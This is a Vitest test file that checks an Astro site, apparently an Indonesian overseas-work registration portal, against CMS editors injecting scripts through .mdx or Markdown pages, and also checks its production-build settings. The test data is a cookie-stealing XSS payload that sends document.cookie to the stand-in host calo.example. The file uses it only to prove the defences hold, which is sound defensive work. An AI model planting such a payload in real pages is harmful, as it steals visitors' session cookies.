import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { t } from '../../src/i18n';
import { ownScriptHashes, sha256Source } from '../../src/server/own-scripts';
import { fillLaunchFacts } from '../../tools/launch-facts';
import { fixtureProjectCopy } from '../support/fixture-content';

// A CMS account (Git Gateway lets an editor write any path under content/) must never add code to the
// official site. Tried on a copy of the project: an .mdx page with a script, a Markdown page with a
// raw <script>, and — the build's own guard — a page of src/ that inlines a script that is not ours.
// Then production builds of the same copy (the tests' content): launch facts empty, then filled.

const run = promisify(execFile);
const SCRIPT = 'fetch("https://calo.example/?c="+document.cookie)';
const frontmatter = (title: string) => `---\ntitle: ${title}\ndescription: Uji coba\nslug: ${title}\nupdated: 2025-12-08\norder: 99\n---\n`;
let project: string;

beforeAll(async () => {
  project = await fixtureProjectCopy('content-code-', 'empty');
  await writeFile(join(project, 'content/pages/id/kode-mdx.mdx'), `${frontmatter('kode-mdx')}\n<script>${SCRIPT}</script>\n`);
  await writeFile(join(project, 'content/pages/id/kode-md.md'), `${frontmatter('kode-md')}\nTeks biasa.\n\n<script>${SCRIPT}</script>\n`);
}, 60_000);
afterAll(() => project && rm(project, { recursive: true, force: true }));

const build = () => run('npx', ['astro', 'build'], { cwd: project, env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1' } });

describe('content cannot add code', () => {
  it('npm run check:content refuses the .mdx file, by name', async () => {
    const check = await run('npm', ['run', '--silent', 'check:content'], { cwd: project }).then(
      () => ({ code: 0, out: '' }),
      (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, out: e.stdout + e.stderr }),
    );
    expect(check.code).not.toBe(0);
    expect(check.out).toContain('content/pages/id/kode-mdx.mdx');
    expect(check.out).toContain('.mdx tidak diizinkan');
  });

  it('built anyway (the check skipped): the .mdx is not a page, the raw script is text, no policy lists it', async () => {
    await build();
    const dist = join(project, 'dist');
    expect(existsSync(join(dist, 'kode-mdx'))).toBe(false);
    const page = await readFile(join(dist, 'kode-md/index.html'), 'utf8');
    expect(page).not.toContain(`<script>${SCRIPT}`);
    expect(page).toContain('&lt;script&gt;');
    const headers = await readFile(join(dist, '_headers'), 'utf8');
    const listed = new Set([...headers.matchAll(/'sha256-[^']+'/g)].map((m) => m[0]));
    expect(listed.has(sha256Source(SCRIPT))).toBe(false);
    // Every script hash in any policy is one of the site's own scripts (or an inline stylesheet's).
    const own = new Set(await ownScriptHashes());
    const scriptSrc = [...headers.matchAll(/script-src ([^;]+);/g)].flatMap((m) =>
      m[1]!.split(' ').filter((s) => s.startsWith("'sha256-")),
    );
    expect(scriptSrc.length).toBeGreaterThan(0);
    expect(scriptSrc.every((h) => own.has(h))).toBe(true);
  }, 180_000);

  it('a page that inlines any other script fails the build, naming the page and the script', async () => {
    await writeFile(
      join(project, 'src/pages/uji-skrip.astro'),
      `---\n---\n<html lang="id"><head><title>x</title></head><body><script is:inline>${SCRIPT}</script></body></html>\n`,
    );
    const result = await build().then(
      () => ({ code: 0, out: '' }),
      (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, out: e.stdout + e.stderr }),
    );
    expect(result.code).not.toBe(0);
    expect(result.out).toContain('uji-skrip/index.html');
    expect(result.out).toContain('calo.example');
  }, 180_000);

  it('a production build with a localhost address fails; with the real address and the launch facts empty, the form page says "opens soon"; filled, it is the form', async () => {
    await rm(join(project, 'src/pages/uji-skrip.astro'), { force: true });
    await rm(join(project, 'content/pages/id/kode-mdx.mdx'), { force: true });
    const production = (url?: string) =>
      run('npx', ['astro', 'build'], {
        cwd: project,
        env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', CONTEXT: 'production', ...(url ? { URL: url } : { URL: '' }) },
      }).then(
        () => ({ code: 0, out: '' }),
        (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, out: e.stdout + e.stderr }),
      );
    const local = await production();
    expect(local.code).not.toBe(0);
    expect(local.out).toContain('Production build with site address http://localhost');
    expect((await production('https://kerja-luar-negeri.contoh.go.id')).code).toBe(0);
    const form = await readFile(join(project, 'dist/daftar/index.html'), 'utf8');
    expect(form).toContain(t('id', 'reg.soon.title'));
    expect(form).not.toContain('name="nik"');
    expect(form).toContain('<meta property="og:image" content="https://kerja-luar-negeri.contoh.go.id/share-card.png"');

    // Launch day: the city fills the facts in the CMS, and the next production build shows the form.
    await fillLaunchFacts(join(project, 'content'));
    expect((await production('https://kerja-luar-negeri.contoh.go.id')).code).toBe(0);
    const open = await readFile(join(project, 'dist/daftar/index.html'), 'utf8');
    expect(open).not.toContain(t('id', 'reg.soon.title'));
    expect(open).toContain('name="nik"');
  }, 360_000);
});
